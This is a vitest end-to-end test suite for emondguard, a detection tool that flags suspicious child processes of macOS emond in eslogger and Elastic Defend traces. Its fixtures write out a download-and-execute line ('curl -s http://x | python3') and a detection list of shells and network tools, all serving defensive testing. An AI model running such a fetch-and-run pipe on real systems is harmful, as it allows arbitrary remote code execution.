import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import type { AlertDocument } from '../../src/alerts/alert-document.js';
import { CLI_PATH, runCli } from '../helpers/cli.js';
import { TraceBuilder, type MessageOptions, type ProcessSpec } from '../helpers/eslogger.js';

const dir = mkdtempSync(path.join(tmpdir(), 'emondguard-scan-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const DEFEND = fileURLToPath(new URL('../fixtures/scan/elastic-defend-process.ndjson', import.meta.url));

function write(name: string, text: string): string {
  const file = path.join(dir, name);
  writeFileSync(file, text);
  return file;
}

function alertsOf(stdout: string): AlertDocument[] {
  return stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as AlertDocument);
}

/** [pid, process name, parent name] of each alert, in order. */
function summary(alerts: AlertDocument[]): Array<[number, string, string | undefined]> {
  return alerts.map((a) => [a.process.pid, a.process.name, a.process.parent.name]);
}

/** Each scenario: a parent (emond or not) that forks a child which execs `child`. */
class Scenarios {
  readonly trace: TraceBuilder;
  private nextPid = 1000;
  readonly launchd: ProcessSpec;

  constructor(options: MessageOptions = { version: 9 }) {
    this.trace = new TraceBuilder(options);
    this.launchd = this.trace.existing(1, '/sbin/launchd', 0);
  }

  /** launchd starts `parentExe`, which forks a child that execs `childExe`; returns the child's pid. */
  spawn(parentExe: string, childExe: string, args: string[] = [childExe.split('/').pop()!]): number {
    return this.spawnWithParent(parentExe, childExe, args).childPid;
  }

  spawnWithParent(parentExe: string, childExe: string, args: string[] = [childExe.split('/').pop()!]): { parent: ProcessSpec; childPid: number } {
    const parent = this.trace.spawn(this.launchd, this.nextPid++, parentExe);
    const childPid = this.nextPid++;
    this.trace.spawn(parent, childPid, childExe, args);
    return { parent, childPid };
  }
}

const LISTED = [
  '/bin/bash', '/bin/dash', '/bin/sh', '/bin/tcsh', '/bin/csh', '/bin/zsh', '/bin/ksh', '/opt/homebrew/bin/fish',
  '/Library/Frameworks/Python.framework/Versions/3.12/Resources/Python.app/Contents/MacOS/Python',
  '/usr/bin/python3', '/usr/local/bin/python3.12', '/usr/bin/perl', '/usr/bin/perl5.34', '/usr/bin/php', '/opt/homebrew/bin/php8.3',
  '/usr/bin/osascript', '/usr/local/bin/pwsh', '/usr/bin/curl', '/opt/homebrew/bin/wget', '/bin/cp', '/bin/mv', '/usr/bin/touch',
  '/bin/echo', '/usr/bin/base64', '/bin/launchctl',
];
const CASE_VARIANTS = ['/tmp/x/BASH', '/tmp/x/Python3', '/tmp/x/CURL', '/tmp/x/OsaScript', '/tmp/x/ZSH', '/tmp/x/PERL'];
const NOT_LISTED = ['/bin/cat', '/bin/ls', '/usr/bin/logger', '/usr/bin/ruby', '/usr/local/bin/node', '/tmp/x/bash5', '/tmp/x/shx', '/usr/bin/xcp', '/tmp/x/echoes', '/usr/bin/say'];

describe('emondguard scan (end to end, eslogger input)', () => {
  it('alerts for each listed child of emond, in any case, and for nothing else', () => {
    const s = new Scenarios();
    const expected: Array<[number, string, string]> = [];
    for (const exe of [...LISTED, ...CASE_VARIANTS]) {
      const pid = s.spawn('/sbin/emond', exe);
      expected.push([pid, exe.split('/').pop()!, 'emond']);
    }
    for (const exe of NOT_LISTED) s.spawn('/sbin/emond', exe);
    // Non-emond parents of listed children.
    for (const parent of ['/sbin/launchd', '/usr/sbin/emondx', '/usr/libexec/notemond', '/tmp/emond.sh', '/bin/zsh']) s.spawn(parent, '/bin/sh');
    // Masquerading copies named emond anywhere, and the name in another case (":" is case-insensitive).
    for (const parent of ['/tmp/emond', '/private/var/tmp/emond', '/Users/Shared/EMOND']) {
      const pid = s.spawn(parent, '/bin/sh', ['sh', '-c', 'id']);
      expected.push([pid, 'sh', parent.split('/').pop()!]);
    }
    const file = write('children.ndjson', s.trace.text());
    const result = runCli(['scan', '--format', 'ndjson', file]);
    expect(result.stderr).toContain('alerts:');
    expect(result.status).toBe(0);
    expect(summary(alertsOf(result.stdout))).toEqual(expected);
  });

  it('follows exec in place (sh -c → curl: still emond\'s child) but not to the grandchild', () => {
    const t = new TraceBuilder({ version: 10 });
    const emond = t.spawn(t.existing(1, '/sbin/launchd', 0), 118, '/sbin/emond');
    const shell = t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'curl -s http://x | python3']);
    t.exit(t.spawn(shell, 2402, '/usr/bin/curl', ['curl', '-s', 'http://x']));
    t.exit(t.exec(shell, '/usr/bin/python3', ['python3']));
    const result = runCli(['scan', '--format', 'ndjson', write('chain.ndjson', t.text())]);
    expect(result.status).toBe(0);
    const alerts = alertsOf(result.stdout);
    expect(summary(alerts)).toEqual([
      [2401, 'sh', 'emond'],
      [2401, 'python3', 'emond'],
    ]);
    // The ndjson alert document carries what issue 2 asks for.
    const alert = alerts[0]!;
    expect(alert.event.kind).toBe('alert');
    expect(alert.rule).toMatchObject({
      id: '3e3d15c6-1509-479a-b125-21718372157e',
      name: 'Suspicious Emond Child Process',
      severity: 'medium',
      risk_score: 47,
    });
    expect(typeof alert.rule.version).toBe('number');
    expect(JSON.stringify(alert.threat)).toContain('T1546.014');
    expect(alert.process).toMatchObject({
      pid: 2401,
      name: 'sh',
      executable: '/bin/sh',
      args: ['sh', '-c', 'curl -s http://x | python3'],
      command_line: 'sh -c curl -s http://x | python3',
      parent: { pid: 118, name: 'emond', executable: '/sbin/emond' },
    });
    expect(alert.process.entity_id).toMatch(/^2401:/);
    expect(alert.host.os.type).toBe('macos');
    expect(alert.user.id).toBe('0');
    expect(alert['@timestamp']).toBe('2025-08-07T13:21:35.880814738Z');
  });

  it('infers emond from a fresh fork when the trace starts mid-flight, and says so', () => {
    const emondCopy: ProcessSpec = { pid: 600, pidversion: 41, executable: '/sbin/emond', ppid: 118, parentPidversion: 40 };
    const t = new TraceBuilder({ version: 9 });
    t.exec(emondCopy, '/bin/zsh', ['zsh', '-c', 'id']);
    const result = runCli(['scan', '--format', 'table', write('midflight.ndjson', t.text())]);
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('118 emond (inferred)');
    expect(result.stdout).toContain('600 zsh');
    expect(result.stderr).toMatch(/1 inferred from a fresh fork/);
  });
});

const CURL_RULE = `[rule]
author = ["Fleet security team"]
description = "curl started by a shell."
name = "Shell Runs curl"
risk_score = 21
rule_id = "0f6e5b5e-6f0e-4a55-9d7e-1b8f2b0c9a11"
severity = "low"
type = "eql"
language = "eql"
query = '''
process where event.action == "exec" and process.name == "curl" and process.parent.name : ("sh", "bash", "zsh")
'''
`;

describe('emondguard scan --rules', () => {
  it('adds the user\'s rules to the built-in one, or replaces them with --no-builtin-rules', () => {
    const rules = path.join(dir, 'rules');
    mkdirSync(rules, { recursive: true });
    writeFileSync(path.join(rules, 'curl.toml'), CURL_RULE);
    const both = runCli(['scan', '--format', 'ndjson', '--rules', rules, DEFEND]);
    expect(both.status).toBe(0);
    const alerts = alertsOf(both.stdout);
    expect(alerts.map((a) => [a.process.pid, a.rule.name, a.rule.ruleset, a.event.severity])).toEqual([
      [2401, 'Suspicious Emond Child Process', 'builtin', 47],
      [2402, 'Shell Runs curl', 'custom', 21],
      [2500, 'Suspicious Emond Child Process', 'builtin', 47],
      [2600, 'Suspicious Emond Child Process', 'builtin', 47],
      [2700, 'Suspicious Emond Child Process', 'builtin', 47],
    ]);
    expect(both.stderr).toMatch(/alerts: 5 \(Suspicious Emond Child Process ×4, Shell Runs curl ×1\)/);

    const only = runCli(['scan', '--format', 'ndjson', '--no-builtin-rules', '--rules', path.join(rules, 'curl.toml'), DEFEND]);
    expect(only.status).toBe(0);
    expect(alertsOf(only.stdout).map((a) => a.rule.name)).toEqual(['Shell Runs curl']);
  });

  it('exits 2 before scanning when a rule file cannot be used, pointing at the problem', () => {
    const broken = path.join(dir, 'broken.toml');
    writeFileSync(broken, CURL_RULE.replace('process.name == "curl"', "process.name == 'curl'"));
    const result = runCli(['scan', '--rules', broken, DEFEND]);
    expect(result.status).toBe(2);
    expect(result.stderr).toContain(broken);
    expect(result.stderr).toContain('^');
    expect(result.stdout).toBe('');

    const missing = runCli(['scan', '--rules', path.join(dir, 'nope'), DEFEND]);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/cannot use this rules path/);

    // A copy of the built-in rule among the user's rules replaces it: every alert is raised once, by the copy.
    const copy = path.join(dir, 'copy.toml');
    writeFileSync(copy, readFileSync(new URL('../../src/rules/builtin/persistence_emond_suspicious_child_process.toml', import.meta.url)));
    const replaced = runCli(['scan', '--format', 'ndjson', '--rules', copy, DEFEND]);
    const plain = runCli(['scan', '--format', 'ndjson', DEFEND]);
    expect(replaced.status).toBe(0);
    // Not silently: stderr says which rule file won (stdout stays the alerts alone).
    expect(replaced.stderr).toMatch(/note: user rule .*copy\.toml .*same rule_id as builtin:.*replaces the built-in one/);
    expect(plain.stderr).not.toContain('note: user rule');
    expect(alertsOf(replaced.stdout).map((a) => a.process.pid)).toEqual(alertsOf(plain.stdout).map((a) => a.process.pid));
    expect(alertsOf(replaced.stdout).length).toBeGreaterThan(0);
  });
});

describe('emondguard scan (inputs and formats)', () => {
  it('scans Elastic Defend ECS documents', () => {
    const result = runCli(['scan', '--format', 'ndjson', DEFEND]);
    expect(result.status).toBe(0);
    expect(summary(alertsOf(result.stdout))).toEqual([
      [2401, 'sh', 'emond'],
      [2500, 'osascript', 'emond'],
      [2600, 'Python', 'emond'],
      [2700, 'launchctl', 'emond'],
    ]);
    expect(result.stderr).toContain('ecs event.category network ×1');
    expect(result.stderr).toContain('ecs host.os.type linux ×1');
  });

  it('reads standard input with -', () => {
    const result = runCli(['scan', '--format', 'ndjson', '-'], { input: readFileSync(DEFEND) });
    expect(result.status).toBe(0);
    expect(alertsOf(result.stdout)).toHaveLength(4);
  });

  it('scans mixed formats and several inputs through one process tree, skipping bad lines', () => {
    const s = new Scenarios();
    const { parent: emond, childPid: shPid } = s.spawnWithParent('/sbin/emond', '/bin/sh');
    const eslogger = s.trace.lines;
    const mixed = [eslogger[0], 'garbage', readFileSync(DEFEND, 'utf8').split('\n')[0], '', '{"truncated":', ...eslogger.slice(1), '[]'].join('\r\n');
    const first = write('mixed.ndjson', mixed);
    // The second input continues the first: a child of the same emond.
    const more = new TraceBuilder({ version: 9 });
    more.exec(more.fork(emond, 3000), '/usr/bin/curl');
    const second = write('more.ndjson', more.text());
    const result = runCli(['scan', '--format', 'ndjson', first, second]);
    expect(result.status).toBe(0);
    expect(summary(alertsOf(result.stdout))).toEqual([
      [2401, 'sh', 'emond'],
      [shPid, 'sh', 'emond'],
      [3000, 'curl', 'emond'],
    ]);
    expect(result.stderr).toMatch(/scanned 2 inputs: 11 lines, 7 events/);
    expect(result.stderr).toContain(`skipped 3 malformed lines: invalid_json 2 (${first}:2, ${first}:5); not_an_object 1 (${first}:9)`);
  });

  it('warns when nothing in the input was a process event it reads (the wrong file)', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'emondguard-scan-'));
    const notATrace = path.join(dir, 'random.bin');
    writeFileSync(notATrace, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)));
    const result = runCli(['scan', notATrace]);
    expect(result.status).toBe(0);
    expect(result.stderr).toMatch(/skipped \d+ malformed line/);
    expect(result.stderr).toContain('warning: no line was a process event this scan reads');
    // A trace with events never gets the warning.
    expect(runCli(['scan', DEFEND]).stderr).not.toContain('warning: no line');
  });

  it('prints json and table formats', () => {
    const json = runCli(['scan', '--format', 'json', DEFEND]);
    expect(json.status).toBe(0);
    expect((JSON.parse(json.stdout) as AlertDocument[]).map((a) => a.process.pid)).toEqual([2401, 2500, 2600, 2700]);
    const table = runCli(['scan', DEFEND]);
    expect(table.status).toBe(0);
    const lines = table.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^TIME\s+SEVERITY\s+RULE\s+PARENT\s+PROCESS\s+COMMAND LINE$/);
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(/medium\s+Suspicious Emond Child Process\s+118 emond\s+2401 sh\s+\/bin\/sh -c curl/);
  });

  it('prints an empty result and a summary when nothing matches', () => {
    const s = new Scenarios();
    s.spawn('/sbin/launchd', '/bin/sh');
    const result = runCli(['scan', '--format', 'json', write('clean.ndjson', s.trace.text())]);
    expect(result.status).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual([]);
    expect(result.stderr).toMatch(/alerts: 0\n$/);
  });

  it('keeps going and exits 0 when the reader of stdout goes away (scan | head)', async () => {
    const s = new Scenarios();
    for (let i = 0; i < 400; i++) s.spawn('/sbin/emond', '/bin/sh', ['sh', '-c', `echo ${'x'.repeat(200)} ${i}`]);
    const file = write('many.ndjson', s.trace.text());
    const child = spawn(process.execPath, [CLI_PATH, 'scan', '--format', 'ndjson', file], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (text: string) => (stderr += text));
    // Read one chunk, then close the pipe like `head -1` does.
    child.stdout.once('data', () => child.stdout.destroy());
    const [code] = (await once(child, 'exit')) as [number | null];
    expect(code).toBe(0);
    expect(stderr).toContain('alerts: 400');
  });

  it.each([
    ['a missing file', ['scan', 'no-such-trace.ndjson'], /cannot read no-such-trace\.ndjson: no such file; check the path/],
    ['a directory', ['scan', '.'], /it is a directory/],
    ['stdin twice', ['scan', '-', '-'], /standard input \(-\) can be scanned only once/],
    ['an unknown format', ['scan', '--format', 'xml', '-'], /argument 'xml' is invalid/],
    ['no input', ['scan'], /missing required argument/],
    ['no rules at all', ['scan', '--no-builtin-rules', '-'], /no rules to scan with/],
  ])('exits 2 with a clear message on %s', (_name, args, message) => {
    const result = runCli(args, { input: '' });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stdout).toBe('');
  });
});
